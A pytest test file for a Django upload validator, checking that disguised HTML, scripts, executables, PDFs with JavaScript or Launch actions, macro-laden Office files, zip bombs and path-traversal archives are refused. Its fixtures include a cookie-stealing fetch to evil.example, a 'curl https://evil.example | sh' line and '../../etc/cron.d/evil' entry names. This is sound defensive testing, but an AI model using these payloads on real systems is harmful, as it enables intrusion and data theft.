"""Documents are judged by their content (core.document_files): the name and the claimed type count for nothing.

Every file here is built in the test: Office Open XML and OpenDocument with zipfile, PDFs with
pypdf's PdfWriter (or by hand where a writer would not produce the hostile structure).
"""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from core.document_files import KINDS, ZIP_MAX_ENTRIES, clean_document, inspect_document, validate_document

ACCEPTED = "Formats acceptés : PDF, Word (.docx), Excel (.xlsx), PowerPoint (.pptx) et OpenDocument (.odt, .ods, .odp)."


# --- Builders -----------------------------------------------------------------------------------

def pdf(pages=1, link=None):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if link:
        writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url=link))
    return _written(writer)


def _written(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_object_stream(action):
    """A PDF 1.5 whose page carries `action`, compressed in an object stream (invisible in the raw bytes)."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
        4: action,
    }
    header, body = b"", b""
    for number, text in objects.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    packed = zlib.compress(header + body)
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    stream_at = len(out)
    out += (b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(header), len(packed)) + packed + b"\nendstream\nendobj\n")
    xref_at = len(out)
    rows = (struct.pack(">BIH", 0, 0, 0xFFFF) + b"".join(struct.pack(">BIH", 2, 5, i) for i in range(4))
            + struct.pack(">BIH", 1, stream_at, 0) + struct.pack(">BIH", 1, xref_at, 0))
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
            + rows + b"\nendstream\nendobj\n")
    return out + b"startxref\n%d\n%%%%EOF\n" % xref_at


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{defaults}'
    '<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
)
OOXML = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml",
             "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
}


def ooxml(kind, content_type=None, extra=(), defaults=""):
    part, main_type = OOXML[kind]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml",
                         CONTENT_TYPES.format(part=part, content_type=content_type or main_type, defaults=defaults))
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats'
                                        f'.org/package/2006/relationships"><Relationship Id="rId1" Target="{part}" '
                                        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                                        'officeDocument"/></Relationships>')
        archive.writestr(part, '<?xml version="1.0"?><document>Rapport annuel</document>')
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


def odf(extension, mimetype=None, extra=()):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype or KINDS[extension].mime_type,
                         compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        archive.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest/>')
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


def refusal(data, name="rapport.pdf"):
    with pytest.raises(ValidationError) as caught:
        inspect_document(ContentFile(data, name=name))
    return caught.value


def message(data, name="rapport.pdf"):
    return refusal(data, name).messages[0]


# --- Accepted -----------------------------------------------------------------------------------

@pytest.mark.parametrize("build, extension", [
    (lambda: pdf(), "pdf"),
    (lambda: pdf(pages=3, link="https://www.oim.fr/"), "pdf"),
    (lambda: ooxml("docx"), "docx"),
    (lambda: ooxml("xlsx"), "xlsx"),
    (lambda: ooxml("pptx"), "pptx"),
    (lambda: odf("odt"), "odt"),
    (lambda: odf("ods"), "ods"),
    (lambda: odf("odp"), "odp"),
])
def test_every_accepted_kind_is_recognised_by_its_content_whatever_its_name(build, extension):
    data = build()
    for name in (f"rapport.{extension}", "rapport.txt", "sans-extension"):
        assert inspect_document(ContentFile(data, name=name)) == KINDS[extension]


def test_kinds_say_what_the_reader_gets():
    assert KINDS["pdf"].mime_type == "application/pdf" and KINDS["pdf"].inline
    assert KINDS["docx"].label == "Word" and not KINDS["docx"].inline
    assert {kind.extension for kind in KINDS.values()} == {"pdf", "docx", "xlsx", "pptx", "odt", "ods", "odp"}


def test_a_pdf_whose_link_action_sits_in_an_object_stream_is_accepted():
    data = pdf_with_object_stream(b"<< /S /URI /URI (https://www.oim.fr/) >>")
    assert inspect_document(ContentFile(data)).extension == "pdf"


def test_clean_document_keeps_the_bytes_under_a_random_name_of_the_real_kind():
    data = ooxml("xlsx")
    upload = SimpleUploadedFile("budget <script>.pdf", data, content_type="application/pdf")
    cleaned, kind = clean_document(upload)
    assert kind == KINDS["xlsx"]
    assert cleaned.read() == data
    stem, extension = cleaned.name.split(".")
    assert extension == "xlsx" and len(stem) == 32 and int(stem, 16) >= 0
    assert clean_document(ContentFile(data))[0].name != cleaned.name


def test_validate_document_is_a_validator():
    assert validate_document(SimpleUploadedFile("a.pdf", pdf(), content_type="text/html")) is None
    with pytest.raises(ValidationError):
        validate_document(SimpleUploadedFile("a.pdf", b"<html></html>", content_type="application/pdf"))


def test_the_file_is_read_from_its_start_and_left_there():
    upload = SimpleUploadedFile("a.pdf", pdf())
    upload.read(10)
    assert inspect_document(upload).extension == "pdf"
    assert upload.tell() == 0


# --- Refused whatever their name -----------------------------------------------------------------

HOSTILE = {
    "html": (b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
             "Ce fichier est une page web (HTML)"),
    "html without doctype": (b"  <script>fetch('/admin/')</script>", "Ce fichier est une page web (HTML)"),
    "utf-16 html": ("\ufeff<html><script>alert(1)</script></html>".encode("utf-16-le"),
                    "Ce fichier est une page web (HTML)"),
    "svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "Ce fichier est une image SVG"),
    "xml": (b'<?xml version="1.0"?><rapport><titre>x</titre></rapport>', "Ce fichier est du XML"),
    "javascript": (b"const steal = () => fetch('https://evil.example/?' + document.cookie);\nsteal();\n",
                   "Ce fichier contient du code JavaScript"),
    "windows program": (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00", "programme (Windows)"),
    "linux program": (b"\x7fELF\x02\x01\x01" + b"\x00" * 57, "programme (Linux)"),
    "macos program": (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56, "programme (macOS)"),
    "shebang script": (b"#!/bin/sh\ncurl https://evil.example | sh\n", "Ce fichier est un script exécutable"),
    "plain text": (b"Rapport annuel 2024\n", "Ce type de fichier n’est pas reconnu comme un document."),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
@pytest.mark.parametrize("name", ["rapport.pdf", "rapport.docx"])
def test_hostile_files_are_refused_whatever_their_name_with_a_message_saying_what_they_are(case, name):
    data, expected = HOSTILE[case]
    upload = SimpleUploadedFile(name, data, content_type="application/pdf")
    with pytest.raises(ValidationError) as caught:
        inspect_document(upload)
    text = caught.value.messages[0]
    assert expected in text
    assert text.endswith(ACCEPTED)


def test_html_behind_a_pdf_header_is_refused():
    text = message(b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>\n%%EOF")
    assert "commence comme un PDF mais contient du code HTML" in text


def test_html_at_the_start_of_a_zip_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("index.html"), "<html><script>alert(1)</script></html>")
    assert "code HTML" in message(out.getvalue(), "rapport.docx")


def test_a_pdf_that_opens_with_javascript_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert('bonjour');"))
    text = message(_written(writer))
    assert "Ce PDF contient du JavaScript (à l’ouverture)" in text and text.endswith(ACCEPTED)


def test_a_pdf_with_a_javascript_open_action_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    assert refusal(_written(writer)).code == "document_pdf_javascript"


def test_a_pdf_with_javascript_on_a_page_is_refused():
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    page.add_action(PageTrigger.OPEN, JavaScript("app.alert(1)"))
    assert "Ce PDF contient du JavaScript" in message(_written(writer))


def test_a_pdf_with_a_launch_action_on_a_link_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    link = writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://www.oim.fr/"))
    link[NameObject("/A")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    assert "lance un programme ou ouvre un fichier (Launch" in message(_written(writer))


def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
    assert refusal(pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")).code \
        == "document_pdf_javascript"


def test_an_action_name_spelled_with_escapes_is_still_recognised():
    assert refusal(pdf_with_object_stream(b"<< /S /L#61unch /F (calc.exe) >>")).code == "document_pdf_launch"


def test_an_xfa_form_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})
    assert "formulaire dynamique (XFA)" in message(_written(writer))


@pytest.mark.parametrize("password", ["secret", ""])
def test_an_encrypted_pdf_is_refused_even_without_a_password(password):
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(password, "owner")
    text = message(_written(writer))
    assert "Ce PDF est chiffré ou protégé par un mot de passe" in text and text.endswith(ACCEPTED)


@pytest.mark.parametrize("data", [
    b"%PDF-1.4\n" + bytes(range(256)) * 40,
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF",
    b"%PDF-1.4\n1 0 obj\n" + b"[" * 5000 + b"\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF",
    b"%PDF-",
])
def test_an_unreadable_pdf_is_refused_never_an_error(data):
    text = message(data)
    assert "Ce PDF est illisible ou endommagé" in text and text.endswith(ACCEPTED)


def test_a_page_tree_that_loops_is_refused_never_followed_forever():
    loop = (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\n"
            b"trailer\n<< /Size 3 /Root 1 0 R >>\n%%EOF\n")
    assert refusal(loop).code == "document_unreadable"


def classic_pdf(entries):
    """A one-page PDF with a classic cross-reference table of `entries` entries."""
    out = (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
           b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
           b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n")
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % entries + b"0000000009 00000 n \n" * (entries - 1)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (entries, xref)


@pytest.mark.parametrize("build", [lambda: classic_pdf(101), lambda: pdf_with_object_stream(b"<< >>")])
def test_a_pdf_with_more_objects_than_the_limit_is_refused_before_pypdf_reads_them(build, monkeypatch):
    assert inspect_document(ContentFile(build())).extension == "pdf"
    monkeypatch.setattr("core.document_files.PDF_MAX_OBJECTS", 5)
    error = refusal(build())
    assert error.code == "document_pdf_complex"
    assert "trop complexe pour être vérifié : les limites sont de 5 objets" in error.messages[0]


def test_object_streams_are_decompressed_within_a_limit(monkeypatch):
    monkeypatch.setattr("core.document_files.PDF_MAX_OBJECT_STREAM_BYTES", 100)
    assert refusal(pdf_with_object_stream(b"<< /Contents (" + b"x" * 200 + b") >>")).code == "document_pdf_complex"


def test_a_pdf_without_pages_is_refused():
    writer = PdfWriter()
    assert "aucune page" in message(_written(writer))


# --- Office files ---------------------------------------------------------------------------------

@pytest.mark.parametrize("data", [
    ooxml("docx", content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ooxml("docx", extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")]),
    ooxml("xlsx", defaults='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ooxml("pptx", content_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
    ooxml("docx", extra=[("word/activeX/activeX1.bin", b"\x00")]),
    odf("odt", extra=[("Basic/Standard/Module1.xml", "<script:module/>")]),
])
def test_macro_enabled_documents_are_refused(data):
    text = message(data, "rapport.docx")
    assert "contient des macros ou des contrôles ActiveX" in text and text.endswith(ACCEPTED)


def test_an_office_template_is_not_taken_for_a_document():
    template = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    data = ooxml("docx", content_type=template)
    assert "enregistrez-le en .docx" in message(data, "modele.docx")


def test_a_zip_that_is_no_office_document_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("rapport.txt", "bonjour")
    assert "n’est pas un document Office ou OpenDocument" in message(out.getvalue(), "rapport.docx")
    assert "ni un texte, ni un classeur" in message(odf("odt", mimetype="application/epub+zip"), "livre.odt")


def test_legacy_binary_office_files_are_refused_with_the_formats_to_use():
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096
    text = message(ole2, "rapport.doc")
    assert "Les anciens formats Office (.doc, .xls, .ppt) sont refusés" in text
    assert "Enregistrez le fichier en .docx, .xlsx ou .pptx, ou exportez-le en PDF" in text


def test_a_password_protected_office_file_says_so():
    encrypted = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512 + "EncryptedPackage".encode("utf-16-le")
    assert "protégé par un mot de passe" in message(encrypted, "rapport.docx")


def _patch_declared_sizes(data, size):
    """Rewrite every central-directory entry's uncompressed size (what an attacker controls)."""
    data = bytearray(data)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 24:at + 28] = struct.pack("<L", size)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def test_a_zip_bomb_declaring_a_huge_size_in_a_tiny_file_is_refused():
    data = _patch_declared_sizes(ooxml("docx"), 0xF0000000)
    assert len(data) < 2000
    error = refusal(data, "rapport.docx")
    assert error.code == "document_zip_ratio"
    assert "anormalement compressé" in error.messages[0] and "la limite est de 200 fois" in error.messages[0]


def test_a_really_compressed_zip_bomb_is_refused_without_being_inflated():
    data = ooxml("docx", extra=[("word/media/zeros.bin", b"\x00" * (64 * 1024 * 1024))])
    assert len(data) < 200_000
    assert refusal(data, "rapport.docx").code == "document_zip_ratio"


def test_many_small_entries_declaring_too_much_in_total_are_refused():
    extra = [(f"xl/worksheets/sheet{i}.xml", b"<row/>") for i in range(600)]
    data = _patch_declared_sizes(ooxml("xlsx", extra=extra), 1024 * 1024)
    text = message(data, "budget.xlsx")
    assert "Une fois décompressé, ce document ferait" in text and "la limite est de 500,0\u00a0Mio" in text


def test_too_many_entries_are_refused_from_the_directory_alone():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(part="word/document.xml",
                                                                      content_type=OOXML["docx"][1], defaults=""))
        for i in range(ZIP_MAX_ENTRIES):
            archive.writestr(f"word/media/{i}.xml", "")
    text = message(out.getvalue(), "rapport.docx")
    assert f"contient trop d’éléments ({ZIP_MAX_ENTRIES + 1})" in text
    assert "la limite est de 5000" in text


@pytest.mark.parametrize("name", ["../../etc/cron.d/evil", "/etc/passwd", "word\\..\\..\\evil.xml", "C:/evil.xml",
                                  "word/./document.xml"])
def test_entries_with_a_path_outside_the_document_are_refused(name):
    data = ooxml("docx", extra=[(name, b"x")])
    text = message(data, "rapport.docx")
    assert "chemin de fichier interdit" in text and text.endswith(ACCEPTED)


def test_duplicate_entries_are_refused():
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = ooxml("docx", extra=[("word/document.xml", b"<autre/>")])
    assert refusal(data, "rapport.docx").code == "document_zip_path"


def test_a_broken_zip_is_refused_never_an_error():
    data = ooxml("docx")
    text = message(data[: len(data) // 2], "rapport.docx")
    assert "illisible ou endommagé (archive ZIP invalide)" in text


# --- Size -------------------------------------------------------------------------------------------

def test_a_30_mb_file_is_refused_with_the_limit(settings):
    assert settings.DOCUMENT_MAX_BYTES == 20 * 1024 * 1024
    big = ContentFile(b"%PDF-1.7\n" + b"0" * (30 * 1024 * 1024))
    with pytest.raises(ValidationError) as caught:
        inspect_document(big)
    assert caught.value.code == "document_too_large"
    assert caught.value.messages[0] == "Le fichier pèse 30,0\u00a0Mio ; la limite est de 20,0\u00a0Mio."


def test_the_limit_holds_for_a_file_that_does_not_tell_its_size(settings):
    settings.DOCUMENT_MAX_BYTES = 1000
    stream = io.BytesIO(pdf(pages=20))
    assert not hasattr(stream, "size")
    with pytest.raises(ValidationError) as caught:
        inspect_document(stream)
    assert "dépasse la limite de 1000" in caught.value.messages[0]


def test_an_empty_file_is_refused():
    text = message(b"")
    assert "Le fichier est vide." in text and text.endswith(ACCEPTED)
